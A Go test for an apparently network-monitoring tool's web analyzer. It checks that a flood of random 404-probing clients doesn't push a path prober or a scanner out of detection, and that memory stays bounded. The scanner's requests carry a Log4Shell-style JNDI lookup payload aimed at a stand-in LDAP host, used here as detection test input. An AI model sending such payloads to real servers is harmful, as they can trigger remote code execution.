package web

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"testing"

	"github.com/reconwatch/reconwatch/analyzers"
	"github.com/reconwatch/reconwatch/capture/packet"
)

// TestFlood: clients without number, each of which asks for something that does not exist, push out each
// other and not those who search. Memory is what it was before.
func TestFlood(t *testing.T) {
	const table, flood, each = 1 << 10, 50_000, 1 << 8
	d := New(Options{Config: DefaultConfig(), Home: home, Seed: 7, Clients: table})
	r := rand.New(rand.NewPCG(1, 2))
	var out []analyzers.Finding
	now := int64(1e18)
	ask := func(from packet.Addr, port uint16, to string, seq uint32, path string) {
		now += sec / 100
		request := []byte("GET " + path + " HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0\r\n\r\n")
		answer := []byte("HTTP/1.1 404 X\r\n\r\n")
		e := analyzers.Event{
			Kind: analyzers.Message, App: analyzers.AppHTTPRequest, Time: now, Source: from, Target: addr(to), SourcePort: port,
			TargetPort: 80, Proto: packet.ProtoTCP, Seq: seq, Window: uint16(seq), DataLen: uint16(len(request)),
		}
		d.Consume(&analyzers.Batch{Events: []analyzers.Event{e}, Bytes: request}, &out)
		e.App, e.FromTarget, e.DataLen = analyzers.AppHTTPResponse, true, uint16(len(answer))
		d.Consume(&analyzers.Batch{Events: []analyzers.Event{e}, Bytes: answer}, &out)
	}
	searcher, attacker := addr("203.0.113.66"), addr("203.0.113.67")
	for i := range flood {
		ask(packet.AddrFrom(netip.AddrFrom4([4]byte{100, byte(r.Uint32()), byte(r.Uint32()), byte(r.Uint32())})), uint16(i), server, 1, fmt.Sprintf("/p%x", r.Uint32()))
		if n := i / each; i%each == 0 && n < len(common) {
			ask(searcher, uint16(1000+n), server, 1, common[n])
			ask(attacker, uint16(1000+n), fmt.Sprintf("10.0.1.%d", n), 1, "/?x=${jndi:ldap://x/a}")
		}
	}
	var told []string
	for i := range out {
		if f := &out[i]; f.Stage == analyzers.Opened {
			told = append(told, f.Kind.String()+"@"+f.Source.String())
		}
	}
	for _, want := range []string{"web_path_probe@203.0.113.66", "web_scanner@203.0.113.67"} {
		if !slices.Contains(told, want) {
			t.Errorf("%s is not among %v", want, told)
		}
	}
	if len(told) != 2 {
		t.Errorf("told %v", told)
	}
	if s := d.Stats(); s.Visits > 2*table || s.Clients > 2*table || s.Evicted < flood/2 {
		t.Errorf("%+v", s)
	}
}
